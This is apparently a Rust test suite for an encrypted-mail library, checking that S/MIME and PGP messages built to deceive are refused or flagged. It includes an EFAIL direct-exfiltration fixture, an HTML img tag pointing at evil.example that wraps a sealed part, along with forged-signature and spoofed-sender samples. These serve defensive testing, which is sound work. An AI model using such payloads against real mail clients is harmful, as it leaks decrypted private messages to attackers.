//! Messages that lie: `open` never calls them authentic, and never gives out
//! what they want read.

use mailseal::base::{Form, KeyFault, Route};
use mailseal::seal::open::{Authenticity, Keyring, Opened, Unproven, open};
use mailseal::seal::{OpenError, SealJob, Sealer};

use super::house::{
    BODY, House, ROUTES, SUBJECT, contains, entity, multipart, rendered, replaced, split,
};

const HEAD: &str = "From: clinic@harbor.example\r\nTo: pat@mail.example\r\nSubject: hello\r\n";

fn unproven(opened: &Opened) -> Unproven {
    match opened.authenticity() {
        Authenticity::Unproven(why) => why,
        other => panic!("{other:?}: {opened:?}"),
    }
}

/// EFAIL, direct exfiltration: HTML around the sealed part would carry the
/// plain text away.
#[test]
fn a_sealed_part_among_others_stays_closed() {
    let house = House::new();
    for route in ROUTES {
        let sealed = entity(&house.seal(route, &house.message()));
        let before = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
        let after = b"Content-Type: text/html\r\n\r\n\">";
        for parts in [
            vec![&before[..], &sealed, after],
            vec![&sealed[..], after],
            vec![&sealed[..]],
        ] {
            for kind in [
                "multipart/mixed",
                "multipart/alternative",
                "multipart/related",
            ] {
                let raw = multipart(HEAD, kind, &parts);
                let opened = house.open(&raw).unwrap();
                assert!(!opened.is_encrypted());
                assert_eq!(unproven(&opened), Unproven::Unsigned);
                assert!(!contains(opened.message().unwrap(), BODY));
                assert_eq!(opened.parts().iter().filter(|p| p.closed).count(), 1);
                assert!(opened.parts().iter().all(|p| !p.encrypted && !p.signed));
            }
        }
    }
}

/// EFAIL, malleability gadgets: whatever octet of the cipher text changes, the
/// content is not released as whole.
#[test]
fn changed_cipher_text_is_never_released_as_whole() {
    let house = House::new();
    for route in ROUTES {
        for form in [None, Some(Form::AuthEnveloped)] {
            if route == Route::Pgp && form.is_some() {
                continue;
            }
            let message = house.message();
            let job = SealJob::new(
                &message,
                &house.clinic.address,
                &house.pat.address,
                house.now,
            );
            let sealed = match form {
                Some(form) => {
                    let sealer = house.smime().form_for(&house.pat.address, form);
                    sealer.seal(&job).unwrap()
                }
                None => house.seal(route, &message),
            };
            let body = sealed.len() - split(&sealed).1.len();
            let mut refused = 0;
            for at in (body..sealed.len()).step_by(17) {
                let mut changed = sealed.clone();
                // Another character of base64, so that the armour stays whole.
                changed[at] = match changed[at] {
                    b'A' => b'B',
                    b if b.is_ascii_alphanumeric() => b'A',
                    _ => continue,
                };
                match house.open(&changed) {
                    // Nothing but decryption says why.
                    Err(OpenError::Decrypt | OpenError::Malformed(_)) => refused += 1,
                    Err(other) => panic!("{other:?}"),
                    Ok(opened) => {
                        let released = opened.message().is_ok_and(|m| contains(m, BODY));
                        let authentic = matches!(opened.authenticity(), Authenticity::Authentic(_));
                        assert_eq!(
                            released, authentic,
                            "{route} at {at}: released and not authentic, or the reverse: {opened:?}"
                        );
                        refused += usize::from(!released);
                    }
                }
            }
            // Octets of the MIME frame, of other recipients and of unsigned
            // fields may change without harm; the cipher text may not.
            assert!(refused > 20, "{route} {form:?}: {refused}");
        }
    }
}

/// The signature taken out, the rest encrypted again: CBC then shows nothing.
#[test]
fn a_stripped_signature_leaves_nothing_authentic() {
    let house = House::new();
    let message = house.message();
    let job = SealJob::new(&message, &house.eve.address, &house.pat.address, house.now);
    let anonymous = |form| {
        mailseal::seal::smime::SmimeSealer::new(std::sync::Arc::clone(&house.known))
            .allow_unsigned(true)
            .form_for(&house.pat.address, form)
    };
    let cbc = anonymous(Form::Enveloped).seal(&job).unwrap();
    let opened = house.open(&cbc).unwrap();
    assert_eq!(unproven(&opened), Unproven::Unsigned);
    assert_eq!(opened.message(), Err(OpenError::Unauthenticated));
    assert!(!opened.encryption()[0].integrity);
    // Its plain text is there for who asks, its HTML is not.
    let texts = opened.unauthenticated_text();
    assert!(texts.iter().any(|t| t.expose().contains(BODY)));
    assert!(texts.iter().all(|t| !t.expose().contains("<p>")));

    let gcm = anonymous(Form::AuthEnveloped).seal(&job).unwrap();
    let opened = house.open(&gcm).unwrap();
    assert_eq!(unproven(&opened), Unproven::Unsigned);
    assert!(contains(opened.message().unwrap(), BODY));

    let pgp = mailseal::seal::pgp::PgpSealer::new(std::sync::Arc::clone(&house.known));
    let opened = house.open(&pgp.seal(&job).unwrap()).unwrap();
    assert_eq!(unproven(&opened), Unproven::Unsigned);
    assert!(opened.message().is_ok());
}

/// Without a key to sign with, CBC is not written unless the host asks.
#[test]
fn cbc_is_not_written_unsigned() {
    let house = House::new();
    let sealer = mailseal::seal::smime::SmimeSealer::new(std::sync::Arc::clone(&house.known));
    let (from, to) = (&house.clinic.address, &house.pat.address);
    let status = sealer.assess(from, to, house.now);
    assert_eq!(status.fault, Some(KeyFault::NoSigningKey));
    let message = house.message();
    let job = SealJob::new(&message, from, to, house.now);
    assert!(sealer.seal(&job).is_err());
}

/// A valid signed message as one part of another: its signature is its own.
#[test]
fn a_wrapped_signature_says_nothing_of_the_whole() {
    let house = House::new();
    for route in ROUTES {
        let signed = house.sign(route, &house.message(), &house.clinic.address);
        let inner = entity(&signed);
        let forged = b"Content-Type: text/plain\r\n\r\nPay to account 4711 instead.";
        for parts in [vec![&inner[..], forged], vec![&forged[..], &inner]] {
            let raw = multipart(HEAD, "multipart/mixed", &parts);
            let opened = house.open(&raw).unwrap();
            assert_eq!(unproven(&opened), Unproven::Unsigned, "{route}");
            assert!(opened.signatures().is_empty());
            for part in opened.parts() {
                assert!(!part.signed);
                let is_forged = part.path.len() == 1;
                assert_eq!(
                    part.own_signatures.is_empty(),
                    is_forged,
                    "{route} {part:?}"
                );
            }
        }
        // Encrypted around: the envelope is not signed either.
        let wrapped = multipart(HEAD, "multipart/mixed", &[&inner, forged]);
        let pgp = mailseal::seal::pgp::PgpSealer::new(std::sync::Arc::clone(&house.known));
        let job = SealJob::new(&wrapped, &house.eve.address, &house.pat.address, house.now);
        let opened = house.open(&pgp.seal(&job).unwrap()).unwrap();
        assert_eq!(unproven(&opened), Unproven::Unsigned);
    }
}

/// Parts that one reader shows and another does not.
#[test]
fn hidden_parts_are_not_signed() {
    let house = House::new();
    for route in ROUTES {
        let signed = house.sign(route, &house.message(), &house.clinic.address);
        let text = String::from_utf8(signed).unwrap();
        let boundary = text.split("boundary=\"").nth(1).unwrap();
        let boundary = boundary.split('"').next().unwrap();
        let line = format!("--{boundary}\r\n");
        let third = format!("{line}Content-Type: text/html\r\n\r\n<b>forged</b>\r\n--{boundary}--");
        let three = replaced(text.as_bytes(), &format!("--{boundary}--"), &third);
        let opened = house.open(&three).unwrap();
        assert_eq!(
            unproven(&opened),
            Unproven::Bad("signature.structure"),
            "{route}"
        );

        // A preamble and an epilogue are shown by nobody who reads MIME, and
        // not given out.
        let preamble = replaced(
            text.as_bytes(),
            &line,
            &format!("forged preamble\r\n{line}"),
        );
        let opened = house.open(&preamble).unwrap();
        assert!(!contains(opened.message().unwrap(), "forged"));
        let epilogue = [text.as_bytes(), b"forged epilogue\r\n"].concat();
        let opened = house.open(&epilogue).unwrap();
        assert!(!contains(opened.message().unwrap(), "forged"));

        // Another protocol than the part's, or one that nobody knows.
        for (old, new) in [
            ("protocol=\"application/p", "protocol=\"application/x"),
            ("multipart/signed", "multipart/mixed"),
        ] {
            let opened = house.open(&replaced(text.as_bytes(), old, new)).unwrap();
            assert!(matches!(
                unproven(&opened),
                Unproven::Bad(_) | Unproven::Unsigned
            ));
        }
    }
}

#[test]
fn a_changed_text_is_a_bad_signature() {
    let house = House::new();
    for route in ROUTES {
        let signed = house.sign(route, &house.message(), &house.clinic.address);
        let changed = replaced(&signed, "insulin", "aspirin");
        let opened = house.open(&changed).unwrap();
        assert!(
            matches!(unproven(&opened), Unproven::Bad(_)),
            "{route}: {opened:?}"
        );
        assert!(opened.parts().iter().all(|p| !p.signed));
    }
}

/// The subject outside is not the one that was signed.
#[test]
fn a_swapped_subject_is_not_believed() {
    let house = House::new();
    for route in ROUTES {
        let signed = house.sign(route, &house.message(), &house.clinic.address);
        let sealed = house.seal(route, &house.message());
        for (raw, was) in [(signed, SUBJECT), (sealed, "[...]")] {
            let at = format!("Subject: {was}");
            let swapped = replaced(&raw, &at, "Subject: All is well");
            let opened = house.open(&swapped).unwrap();
            let message = opened.message().unwrap();
            assert!(contains(message, &format!("Subject: {SUBJECT}")));
            assert!(!contains(message, "All is well"));
            assert_eq!(opened.headers().altered, ["Subject"]);
        }
    }
}

/// Where headers are not protected, the report says so.
#[test]
fn a_subject_that_nothing_protects_is_reported_as_such() {
    let house = House::new();
    for route in ROUTES {
        let signed = house.sign(route, &house.message(), &house.clinic.address);
        // The protection is under the signature: taking it out breaks that.
        let without = replaced(&signed, "hp=\"clear\"", "xx=\"clear\"");
        let without = replaced(
            &without,
            "protected-headers=\"v1\"",
            "unprotected-heads=\"v1\"",
        );
        let opened = house.open(&without).unwrap();
        assert!(!opened.headers().protected);
        assert!(matches!(unproven(&opened), Unproven::Bad(_)));
    }
}

/// A right signature by somebody else than the author.
#[test]
fn a_stranger_in_the_clinics_name_is_not_the_author() {
    let house = House::new();
    // Eve signs, with the clinic in From, by a sealer that lets her.
    let forged = rendered(&house.clinic.address, &house.pat.address);
    for route in ROUTES {
        let signed: Vec<u8> = match route {
            Route::Pgp => mailseal::seal::pgp::PgpSealer::new(std::sync::Arc::clone(&house.known))
                .identity(&house.clinic.address, house.eve.pgp.clone())
                .sign(&forged, &house.clinic.address, house.now)
                .unwrap(),
            _ => mailseal::seal::smime::SmimeSealer::new(std::sync::Arc::clone(&house.known))
                .identity(&house.clinic.address, house.eve.smime.clone())
                .sign(&forged, &house.clinic.address, house.now)
                .unwrap(),
        };
        let opened = house.open(&signed).unwrap();
        assert!(
            matches!(
                unproven(&opened),
                Unproven::NotTheAuthor | Unproven::Signer(_)
            ),
            "{route}: {opened:?}"
        );
        // In her own name inside, and the clinic's outside.
        let own = rendered(&house.eve.address, &house.pat.address);
        let signed = house.sign(route, &own, &house.eve.address);
        let masked = replaced(&signed, "<eve@evil.example>", "<clinic@harbor.example>");
        let opened = house.open(&masked).unwrap();
        assert_eq!(unproven(&opened), Unproven::From, "{route}");
        assert!(opened.headers().from_differs);
    }
}

/// Two authors, or a second From.
#[test]
fn an_ambiguous_author_is_nobody() {
    let house = House::new();
    for route in ROUTES {
        let signed = house.sign(route, &house.message(), &house.clinic.address);
        let twice = [b"From: eve@evil.example\r\n".as_slice(), &signed].concat();
        let opened = house.open(&twice).unwrap();
        assert_eq!(unproven(&opened), Unproven::From, "{route}");
    }
}

/// Who passes an encrypted message on can sign around it.
#[test]
fn a_signature_outside_the_encryption_is_not_the_writers() {
    let house = House::new();
    let anonymous = mailseal::seal::pgp::PgpSealer::new(std::sync::Arc::clone(&house.known));
    let message = house.message();
    let job = SealJob::new(
        &message,
        &house.clinic.address,
        &house.pat.address,
        house.now,
    );
    let encrypted = anonymous.seal(&job).unwrap();
    for route in ROUTES {
        let signed = house.sign(route, &encrypted, &house.clinic.address);
        let opened = house.open(&signed).unwrap();
        assert!(opened.is_encrypted(), "{route}");
        assert_eq!(
            unproven(&opened),
            Unproven::OutsideEncryption,
            "{route}: {opened:?}"
        );
        assert!(opened.signatures().is_empty());
    }
}

/// A message that was encrypted, passed on in clear by who could read it.
#[test]
fn a_payload_that_was_encrypted_and_arrives_in_clear_is_exposed() {
    let house = House::new();
    let payload = "From: clinic@harbor.example\r\nSubject: secret\r\n\
        HP-Outer: Subject: [...]\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\ntext\r\n";
    let raw = house.sign(
        Route::Smime,
        &[HEAD.as_bytes(), b"Content-Type: text/plain\r\n\r\ntext\r\n"].concat(),
        &house.clinic.address,
    );
    // Put in by hand, the signature does not fit; what is asked is the report.
    let text = String::from_utf8(raw).unwrap();
    let start = text.find("\r\n\r\n").unwrap() + 4;
    let boundary = text[start..].lines().next().unwrap().to_owned();
    let second = text[start..].match_indices(&boundary).nth(1).unwrap().0 + start;
    let raw = format!(
        "{}{boundary}\r\n{payload}\r\n{}",
        &text[..start],
        &text[second..]
    );
    let opened = house.open(raw.as_bytes()).unwrap();
    assert!(opened.headers().exposed, "{opened:?}");
    assert!(matches!(unproven(&opened), Unproven::Bad(_)));
}

/// Layers without end.
#[test]
fn deep_layers_are_a_limit() {
    let house = House::new();
    let mut raw = house.message();
    for _ in 0..9 {
        let (head, _) = split(&raw);
        let head = String::from_utf8(head.to_vec()).unwrap();
        let from = head.lines().find(|l| l.starts_with("From:")).unwrap();
        let part = entity(&raw);
        raw = [
            format!("{from}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"b{}\"\r\n\r\n", raw.len()).as_bytes(),
            format!("--b{}\r\n", raw.len()).as_bytes(),
            &part,
            format!("\r\n--b{}\r\nContent-Type: application/pgp-signature\r\n\r\nnone\r\n--b{}--\r\n", raw.len(), raw.len()).as_bytes(),
        ]
        .concat();
    }
    let result = house.open(&raw).map(|_| ());
    assert!(matches!(result, Err(OpenError::Limit { .. })), "{result:?}");
}

/// Whatever fails in decrypting, the error is the same.
#[test]
fn failures_of_decryption_are_one_error() {
    let house = House::new();
    for route in ROUTES {
        let sealed = house.seal(route, &house.message());
        let mut errors = vec![
            open(&sealed, &Keyring::new(), house.now).map(|_| ()),
            open(&sealed, &house.keyring(&house.eve), house.now).map(|_| ()),
        ];
        let body = sealed.len() - split(&sealed).1.len();
        let armour = String::from_utf8(sealed.clone()).unwrap();
        for cut in [armour.len() - body - 200, (armour.len() - body) / 2] {
            let mut kept: Vec<&str> = armour[..body + cut].lines().collect();
            kept.pop();
            let mut text = kept.join("\r\n");
            // The frame ends as it should; what is in it does not.
            if route == Route::Pgp {
                let boundary = armour.split("boundary=\"").nth(1).unwrap();
                let boundary = boundary.split('"').next().unwrap();
                text.push_str(&format!("\r\n--{boundary}--\r\n"));
            }
            errors.push(house.open(text.as_bytes()).map(|_| ()));
        }
        for error in errors {
            assert_eq!(error, Err(OpenError::Decrypt), "{route}");
        }
    }
}
